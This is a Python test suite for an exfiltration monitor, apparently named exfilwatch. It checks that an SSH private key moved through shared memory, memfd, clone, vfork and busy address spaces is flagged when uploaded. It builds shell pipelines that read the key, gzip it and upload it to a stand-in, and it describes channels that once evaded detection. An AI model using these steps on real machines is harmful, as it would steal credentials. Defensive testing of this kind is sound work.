# read shows in a syscall: a System V segment both attach, an anonymous shared mapping or a memfd
# the receiver inherited at fork (then setsid), a file both map MAP_SHARED (the receiver
# read-only), one the key's reader maps read-only and makes writable with mprotect, and a file
# the receiver maps MAP_PRIVATE into which the key's reader writes with pwrite(2) (a private
# mapping shows the file's later writes in every page it has not written). Or a whole address
# space: a child made by clone(CLONE_VM) (a process, not a thread) shares its parent's.

SHARED = paths.TOOLS_DIR / "shared_mem.py"


def gconv_cache_id():
    """The inode of glibc's gconv-modules.cache, which every iconv user maps MAP_SHARED."""
    found = list(pathlib.Path("/usr/lib").glob("*/gconv/gconv-modules.cache"))
    return str(os.stat(found[0]).st_ino) if found else None
SHARED_MODES = ["sysv", "fork", "memfd", "file", "mprotect", "private"]


def shared_run(monitor, standin, fake_home, tmp_path, mode, source, expect, tool=None):
    got, stage = tmp_path / "shared.bin", tmp_path / "shared.gz"
    command = f"{tool} {source} {got}" if tool else f"{PY} {SHARED} {mode} {source} {got}"
    shell = f"{command} && gzip -c {got} > {stage} && " + UPLOAD.format(stage)
    expect_run(expect, monitor, standin, fake_home, tmp_path, f"shared-{mode}-{expect}", shell)
    assert got.read_bytes() == source.read_bytes()
    # The tool's own processes (by its executable, or the script in python's arguments): not the
    # test's python, whose subprocesses (vfork-started) share its address space until they exec.
    found = [r for r in monitor.records()
             if is_action("object-io", {"exfilwatch.object.kind": "shared_memory"})(r)
             and (str(get(r, "process.executable", "")) == str(tool) if tool
                  else str(SHARED) in (get(r, "process.args") or []))
             and get(r, "exfilwatch.object.id") != gconv_cache_id()]
    directions = {get(r, "exfilwatch.object.direction") for r in found}
    # A private mapping only reads: the bytes reach the file by write(2).
    expected = {"read"} if mode == "private" else {"read", "write"}
    assert directions == expected, f"shared_memory records by the tool: {directions}"
    assert all(get(r, "event.category") == ["file"] for r in found)
    return found


@pytest.mark.parametrize("mode", SHARED_MODES)
def test_key_passed_through_shared_memory(monitor, standin, fake_home, tmp_path, mode):
    key = key_of(fake_home)
    shared_run(monitor, standin, fake_home, tmp_path, mode, key, "alert")
    assert_no_secret(monitor, key)


@pytest.mark.parametrize("mode", SHARED_MODES)
def test_report_passed_through_shared_memory_is_silent(monitor, standin, fake_home, tmp_path, mode):
    shared_run(monitor, standin, fake_home, tmp_path, mode, harmless_report(tmp_path), "silent")


# The kernel finds what an attach or a shared mmap mapped with bpf_find_vma, which only try-locks
# the address space: a process whose other threads keep it busy (mmap and munmap in a loop, as
# an allocator's threads do) made about one lookup in two fail, and its mapping went unseen. Six
# transfers, each through a segment both sides attach while two threads of theirs churn: every
# one of the twelve processes must be known as a mapper, reading and writing.
BUSY_ROUNDS = 6


def busy_run(monitor, standin, fake_home, tmp_path, c_tool, source, expect):
    got, stage = tmp_path / "busy.bin", tmp_path / "busy.gz"
    tool = c_tool("busy_shm", "-lpthread")
    shell = (f"for i in $(seq {BUSY_ROUNDS}); do {tool} {source} {got} || exit 1; done && "
             f"gzip -c {got} > {stage} && " + UPLOAD.format(stage))
    expect_run(expect, monitor, standin, fake_home, tmp_path, f"busy-shm-{expect}", shell)
    assert got.read_bytes() == source.read_bytes()
    records = monitor.records()
    mappers = {}
    for r in records:
        if str(get(r, "process.executable", "")).endswith("/busy_shm"):
            mappers.setdefault(get(r, "process.pid"), set())
            if is_action("object-io", {"exfilwatch.object.kind": "shared_memory"})(r):
                mappers[get(r, "process.pid")].add(get(r, "exfilwatch.object.direction"))
    assert len(mappers) == 2 * BUSY_ROUNDS, f"busy_shm processes seen: {len(mappers)}"
    unseen = [pid for pid, directions in mappers.items() if directions != {"read", "write"}]
    assert not unseen, f"{len(unseen)} of {len(mappers)} processes' mappings went unseen: {unseen}"
    stats = [get(r, "exfilwatch.stats") for r in records if is_action("stats")(r)]
    assert stats and stats[-1].get("kernel.drops.vma_busy", 0) == 0, stats[-1:]


def test_key_passed_through_memory_attached_while_the_address_space_is_busy(monitor, standin, fake_home,
                                                                            tmp_path, c_tool):
    key = key_of(fake_home)
    busy_run(monitor, standin, fake_home, tmp_path, c_tool, key, "alert")
    assert_no_secret(monitor, key)


def test_report_passed_through_memory_attached_while_the_address_space_is_busy_is_silent(
        monitor, standin, fake_home, tmp_path, c_tool):
    busy_run(monitor, standin, fake_home, tmp_path, c_tool, harmless_report(tmp_path), "silent")


def clone_run(monitor, standin, fake_home, tmp_path, c_tool, source, expect):
    found = shared_run(monitor, standin, fake_home, tmp_path, "clone", source, expect, tool=c_tool("clone_vm"))
    # Parent and child each map the one address space, named alike (device 0, a salted hash).
    spaces = {(get(r, "exfilwatch.object.id"), get(r, "exfilwatch.object.device")) for r in found
              if get(r, "exfilwatch.object.device") is None}
    assert len(spaces) == 1, f"address spaces shared: {spaces}"
    assert len({get(r, "process.pid") for r in found if get(r, "exfilwatch.object.device") is None}) == 2


def test_key_read_into_an_address_space_a_clone_shares(monitor, standin, fake_home, tmp_path, c_tool):
    key = key_of(fake_home)
    clone_run(monitor, standin, fake_home, tmp_path, c_tool, key, "alert")
    assert_no_secret(monitor, key)


def test_report_read_into_an_address_space_a_clone_shares_is_silent(monitor, standin, fake_home, tmp_path,
                                                                     c_tool):
    clone_run(monitor, standin, fake_home, tmp_path, c_tool, harmless_report(tmp_path), "silent")


# vfork(2): the child runs in its parent's address space while the parent waits, and exits; the
# parent, which read nothing, stages what the child left in its memory. (posix_spawn's child
# shares it the same way until it execs: what it reads after its exec is its own, below.)
def vfork_run(monitor, standin, fake_home, tmp_path, c_tool, source, expect):
    found = shared_run(monitor, standin, fake_home, tmp_path, "vfork", source, expect, tool=c_tool("vfork_read"))
    assert len({get(r, "process.pid") for r in found if get(r, "exfilwatch.object.device") is None}) == 2


def test_key_read_by_a_vfork_child_into_its_parents_memory(monitor, standin, fake_home, tmp_path, c_tool):
    key = key_of(fake_home)
    vfork_run(monitor, standin, fake_home, tmp_path, c_tool, key, "alert")
    assert_no_secret(monitor, key)


def test_report_read_by_a_vfork_child_into_its_parents_memory_is_silent(monitor, standin, fake_home, tmp_path,
                                                                        c_tool):
    vfork_run(monitor, standin, fake_home, tmp_path, c_tool, harmless_report(tmp_path), "silent")


def test_key_read_by_a_spawned_command_after_its_exec_is_silent(monitor, standin, fake_home, tmp_path):
    # Python's subprocess starts its children with vfork: a child that execs ssh-keygen, which
    # reads the key, shares nothing of it with the script, whose upload of a report is silent.
    key, report = key_of(fake_home), harmless_report(tmp_path)
    script = (f"import subprocess; subprocess.run(['ssh-keygen', '-y', '-f', '{key}'], check=True, "
              f"stdout=subprocess.DEVNULL); data = open('{report}', 'rb').read(); "
              f"open('{tmp_path / 'report.copy'}', 'wb').write(data)")
    stage = tmp_path / "report.gz"
    shell = (f"{PY} -c \"{script}\" && gzip -c {tmp_path / 'report.copy'} > {stage} && "
             + UPLOAD.format(stage))
    expect_run("silent", monitor, standin, fake_home, tmp_path, "spawned-key-reader", shell)
    spawned = {get(r, "process.pid") for r in monitor.records()
               if is_action("object-io", {"exfilwatch.object.kind": "shared_memory"})(r)
               and get(r, "exfilwatch.object.device") is None
               and "ssh-keygen" in " ".join(get(r, "process.args") or [])}
    assert len(spawned) == 2, f"the spawn's shared address space, by the script and its child: {spawned}"
